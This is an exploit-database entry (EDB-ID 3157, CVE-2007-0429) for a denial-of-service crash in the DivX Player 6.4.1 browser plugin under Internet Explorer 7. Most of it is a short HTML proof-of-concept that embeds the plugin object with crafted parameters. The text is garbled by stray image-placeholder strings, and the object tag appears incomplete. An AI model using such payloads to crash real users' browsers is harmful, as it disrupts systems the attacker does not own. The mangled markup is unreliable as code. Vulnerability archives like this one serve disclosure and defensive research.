DivX Player 6.4.1 DivXBrowserPlugin npdivx32.dll IE DoS

ID EDB-ID:3157
Type exploitdb
Reporter shinnai
Modified 2007-01-19T00:00:00


DivX Player 6.4.1 (DivXBrowserPlugin npdivx32.dll) IE DoS. CVE-2007-0429. Dos exploit for windows platform

DivX Player 6.4.1 (DivXBrowserPlugin npdivx32.dll) Internet Explorer Denial
of Service
author: shinnaimail: shinnai[at]autistici[dot]org
site: http://shinnai.altervista.org
Tested on Windows XP ProfessionalSP2 all patched, with Internet Explorer 7

This plugin is installed with DivX Player. This is the one you can find with
the last version of the software DivX Player 6.4.1
url: http://www.divx.com/
<OBJECT id=DivXBrowserPlugin style="LEFT: 0px; WIDTH: 1px; TOP: 0px; HEIGHT:
1px" height=1width=1
       <PARAM NAME="_cx"VALUE="26">
       <PARAM NAME="_cy" VALUE="26"></OBJECT>

# milw0rm.com [2007-01-19]